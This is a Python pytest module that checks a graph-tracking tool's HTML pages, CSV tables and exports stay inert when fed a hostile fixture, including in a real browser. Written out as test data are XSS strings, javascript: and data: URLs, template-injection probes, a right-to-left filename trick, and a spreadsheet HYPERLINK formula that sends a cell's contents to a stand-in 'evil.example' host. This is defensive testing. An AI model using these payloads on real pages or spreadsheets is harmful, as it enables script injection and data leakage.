"""The hostile fixture through every command: output stays inert.

tests/fixtures/hostile/ holds script tags and event handlers in names, formula cells, a
right-to-left override, a 100 KB name and path-like ids; a graph built here adds javascript:
and data: URLs that validation would refuse. Every HTML page must show them as text (only
http(s) links, a strict CSP), every CSV cell must be inert in a spreadsheet, and a real
Chromium must run no script from the data and make no outside request.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from click.testing import CliRunner
from conftest import FIXTURES_PATH

from tracker.cli import cli
from tracker.dataset import load
from tracker.graph import build

HOSTILE = FIXTURES_PATH / "hostile"
PAYLOADS = ("<script>window.__pwned", 'onerror="window.__pwned', "<svg onload=", '<iframe src="javascript:', '<a href="javascript:')
FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")


def dangerous_cell(cell: str) -> bool:
    """A cell a spreadsheet could run: a formula start, also after leading blanks, or a tab/CR first."""
    if NUMBER.match(cell):
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip(" \t\r\n").startswith(FORMULA)


def assert_csv_inert(path: Path) -> int:
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    bad = [(i + 1, c[:40]) for i, row in enumerate(rows) for c in row if dangerous_cell(c)]
    assert not bad, f"{path.name}: formula cells {bad[:5]}"
    return len(rows)


class Links(html.parser.HTMLParser):
    """Collects every URL-bearing attribute and every tag of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[tuple[str, str, str]] = []
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.csp: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for k, v in attrs:
            if k in {"href", "src", "action", "formaction", "xlink:href"} and v is not None:
                self.urls.append((tag, k, v))
            if k.startswith("on"):
                self.handlers.append(f"{tag} {k}")
        a = dict(attrs)
        if tag == "meta" and (a.get("http-equiv") or "").lower() == "content-security-policy":
            self.csp.append(a.get("content") or "")


def assert_html_inert(path: Path) -> Links:
    text = path.read_text(encoding="utf-8")
    for p in PAYLOADS:
        assert p not in text, f"{path.name}: raw {p!r}"
    page = Links()
    page.feed(text)
    for tag, attr, url in page.urls:
        # an empty favicon (so the browser asks for none) is the page's only non-web URL, and the
        # report's names link to the network view written beside it (issue 14)
        sibling = tag == "a" and url.startswith("network.html#focus=")
        assert url.startswith(("http://", "https://", "#")) or (tag, url) == ("link", "data:,") or sibling, (path.name, tag, attr, url[:80])
    assert not page.handlers, page.handlers[:5]
    assert page.tags.count("iframe") == 0
    assert len(page.csp) == 1, f"{path.name}: no Content-Security-Policy"
    csp = page.csp[0]
    assert "default-src 'none'" in csp and "unsafe-eval" not in csp
    assert not re.search(r"script-src[^;]*'unsafe-inline'", csp), csp
    assert not re.search(r"(connect|img|script|style|font)-src[^;]*(https?:|\*)", csp), csp
    return page


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile") / "graphs"
    r = CliRunner().invoke(cli, ["build", "--data", str(HOSTILE), "--out", str(out)])
    assert r.exit_code == 0, r.stderr
    return out


def test_validate_accepts_it_with_warnings(cli_runner: CliRunner) -> None:
    r = cli_runner.invoke(cli, ["validate", "--data", str(HOSTILE)])
    assert r.exit_code == 0, r.stderr
    assert "long-cell" in r.stderr and "bidi" in r.stderr.lower()  # the 100 KB name and the RTL override are flagged


def test_build_writes_inert_pages_and_tables(built: Path) -> None:
    names = sorted(p.name for p in built.iterdir())
    assert {"network.html", "report.html", "nodes.csv", "edges.csv", "sources.csv", "centrality.csv"} <= set(names)
    for name in names:
        if name.endswith(".html"):
            assert_html_inert(built / name)
        elif name.endswith(".csv"):
            assert assert_csv_inert(built / name) >= 1
    # the data is still there, as text
    report = (built / "report.html").read_text(encoding="utf-8")
    network = (built / "network.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;Evil Name" in report
    assert "window.__pwned=1" in network  # inside the JSON data, escaped for a script block
    assert "</script><script>window" not in network


def test_view_and_its_path_highlight(cli_runner: CliRunner, tmp_path: Path) -> None:
    out = tmp_path / "v.html"
    r = cli_runner.invoke(cli, ["view", "--data", str(HOSTILE), "--path", "x-script", "x..passwd", "-o", str(out)])
    assert r.exit_code == 0, r.stderr
    assert_html_inert(out)


@pytest.mark.parametrize(
    "args",
    [
        ["report", "--format", "csv"],
        ["report", "--table", "brokers", "--format", "csv"],
        ["report", "--table", "jurisdictions", "--format", "csv"],
        ["search", "script", "--format", "csv"],
        ["chains", "x-rtl", "--format", "csv"],
    ],
    ids=lambda a: "-".join(a[:3]),
)
def test_analysis_csv_is_inert(args: list[str], cli_runner: CliRunner, tmp_path: Path) -> None:
    r = cli_runner.invoke(cli, [args[0], "--data", str(HOSTILE), *args[1:]])
    assert r.exit_code == 0, r.stderr
    path = tmp_path / "out.csv"
    path.write_text(r.stdout, encoding="utf-8")
    assert assert_csv_inert(path) >= 1


SCRIPT_NAME = "<script>window.__pwned=1</script>Evil Name"


@pytest.mark.parametrize(
    "args,where,expected",
    [
        (["chains", "x-rtl"], ("name",), "Invoice \u202egnp.exe Holdings"),
        (["path", "x-script", "x..passwd"], ("paths", 0, "hops", 0, "from_name"), SCRIPT_NAME),
        (["neighbours", "x..y:z"], ("name",), "{{7*7}} ${7*7} <%= 7*7 %>"),
        (["search", "<script>"], ("rows", 0, "name"), SCRIPT_NAME),
        (["search", "Злой"], ("rows", 0, "matched"), "Злой <b>Имя</b>"),
    ],
    ids=lambda a: "-".join(a) if isinstance(a, list) else "",
)
def test_text_commands_print_data_as_plain_text(args: list[str], where: tuple[Any, ...], expected: str, cli_runner: CliRunner) -> None:
    r = cli_runner.invoke(cli, [args[0], "--data", str(HOSTILE), *args[1:], "--format", "json"])
    assert r.exit_code == 0, r.stderr
    value: Any = json.loads(r.stdout)
    for key in where:
        value = value[key]
    assert value == expected  # verbatim: neither escaped nor interpreted


@pytest.mark.parametrize("fmt", ["csv", "neo4j", "graphml", "gexf", "json", "ftm"])
def test_every_export_format_is_inert(fmt: str, cli_runner: CliRunner, tmp_path: Path) -> None:
    target = tmp_path / ("out" if fmt in ("csv", "neo4j") else f"out.{fmt}")
    r = cli_runner.invoke(cli, ["export", "--data", str(HOSTILE), "-f", fmt, "-o", str(target)])
    assert r.exit_code == 0, r.stderr
    files = sorted(target.iterdir()) if target.is_dir() else [target]
    expected = {
        "csv": ["edges.csv", "nodes.csv", "sources.csv"],
        "neo4j": ["README.txt", "import.cypher", "nodes.csv", "relationships.csv"],
    }.get(fmt, [f"out.{fmt}"])
    assert [p.name for p in files] == expected  # nothing written outside the target
    for p in files:
        if p.suffix == ".csv":
            assert_csv_inert(p)
        elif p.suffix in (".graphml", ".gexf"):
            import xml.etree.ElementTree as ET

            ET.fromstring(p.read_bytes())  # well-formed: names cannot break out of their element
            assert b"<script>" not in p.read_bytes()
        elif fmt in ("json", "ftm"):
            for line in p.read_text(encoding="utf-8").splitlines() if fmt == "ftm" else [p.read_text(encoding="utf-8")]:
                json.loads(line)


def test_imported_formulas_are_guarded_but_curated_folders_are_read_exactly(cli_runner: CliRunner, tmp_path: Path) -> None:
    """Decision (SECURITY.md): a curated folder is read as written and never rewritten; an
    importer writes strangers' text with an apostrophe before a formula start, because an
    imported folder is reviewed in a spreadsheet; exports for spreadsheets guard every cell."""
    ftm = tmp_path / "f.json"
    ftm.write_text(
        json.dumps({"id": "p1", "schema": "Person", "properties": {"name": ['=HYPERLINK("http://evil.example")']}, "datasets": ["x"]})
        + "\n",
        encoding="utf-8",
    )
    assert cli_runner.invoke(cli, ["import", "ftm", str(ftm), "--out", str(tmp_path / "imp")]).exit_code == 0
    assert_csv_inert(tmp_path / "imp" / "entities.csv")
    G = build(load([HOSTILE]))
    assert G.nodes["x-formula"]["name"] == '=HYPERLINK("http://evil.example/?"&A1,"click")'  # kept exactly in the graph


def _graph_with_bad_urls() -> nx.MultiDiGraph:
    """The hostile graph with javascript: and data: URLs in sources, as only a direct build allows."""
    G = build(load([HOSTILE]))
    srcs = G.graph["sources"]
    srcs["s-evil"]["url"] = "javascript:window.__pwned=10"
    srcs["s-evil"]["archived_url"] = "data:text/html,<script>window.__pwned=11</script>"
    srcs["s-ok"]["canonical_url"] = "JaVaScRiPt:window.__pwned=12"
    srcs["s-ok"]["url"] = " javascript:window.__pwned=13"
    return G


def test_javascript_and_data_urls_render_as_text_in_both_pages(tmp_path: Path) -> None:
    from tracker.report import write_build_reports
    from tracker.views import write_view

    G = _graph_with_bad_urls()
    page = write_view(G, tmp_path / "network.html")
    write_build_reports(G, tmp_path)
    for p in (page, tmp_path / "report.html"):
        assert_html_inert(p)
    network = page.read_text(encoding="utf-8")
    assert "javascript:window.__pwned=10" in network  # kept as data, for the panel to show as text


# --- in a real browser -------------------------------------------------------------------------

from test_browser import ARTIFACTS, READY, browser, open_page  # noqa: E402,F401  (the browser set-up and its fixture)

PWNED = "Object.keys(window).filter(k => k.startsWith('__pwned'))"
NON_HTTP_LINKS = "[...document.querySelectorAll('a[href]')].map(a => a.href).filter(h => !/^https?:/.test(h) && !h.includes('#'))"


@pytest.mark.browser
def test_built_pages_run_no_script_and_make_no_request(browser: Any, built: Path) -> None:  # noqa: F811 (the fixture imported above)
    for name, ready in (("network.html", READY), ("report.html", None)):
        context, page, outside, errors = open_page(browser, built / name, ready)
        try:
            if name == "network.html":
                for ident in ("x-script", "x-formula", "x..passwd"):
                    assert page.evaluate("id => trackerView.selectNode(id)", ident) is True
                for key in ("h1", "h6"):
                    assert page.evaluate("id => trackerView.selectEdge(id)", key) is True
                # the 100 KB name is cut in the panel (laying it out whole froze the page for ~10 s)
                assert page.evaluate("id => trackerView.selectNode(id)", "x-long") is True
                assert page.evaluate("document.querySelector('#panel-body h2').textContent.endsWith(' more characters]')")
                page.locator("#search-input").fill("<img src=x onerror=window.__pwned=9>")
            assert page.evaluate(PWNED) == [], name
            assert page.evaluate(NON_HTTP_LINKS) == [], name
            assert page.evaluate("document.querySelectorAll('iframe, object, embed').length") == 0
            assert outside == [] and errors == [], (name, outside, errors)
            if name == "report.html":
                # textContent, not inner_text: laying out the 100 KB name costs seconds
                assert page.evaluate("t => document.body.textContent.includes(t)", "<script>window.__pwned=1</script>Evil Name")
                ARTIFACTS.mkdir(exist_ok=True)
                page.screenshot(path=str(ARTIFACTS / "report-hostile.png"))
        finally:
            context.close()


@pytest.mark.browser
def test_bad_urls_stay_text_in_the_browser(browser: Any, tmp_path: Path) -> None:  # noqa: F811
    from tracker.report import write_build_reports
    from tracker.views import write_view

    G = _graph_with_bad_urls()
    write_view(G, tmp_path / "network.html")
    write_build_reports(G, tmp_path)
    for name, ready in (("network.html", READY), ("report.html", None)):
        context, page, outside, errors = open_page(browser, tmp_path / name, ready)
        try:
            if name == "network.html":
                for key in ("h1", "h2", "h6"):
                    page.evaluate("id => trackerView.selectEdge(id)", key)
                    assert page.evaluate(NON_HTTP_LINKS) == [], key
                page.evaluate("id => trackerView.selectEdge(id)", "h1")
                assert page.evaluate("t => document.querySelector('#panel-body').textContent.includes(t)", "javascript:window.__pwned=10")
            assert page.evaluate(NON_HTTP_LINKS) == [], name
            assert page.evaluate(PWNED) == [], name
            assert outside == [] and errors == [], (name, outside, errors)
        finally:
            context.close()
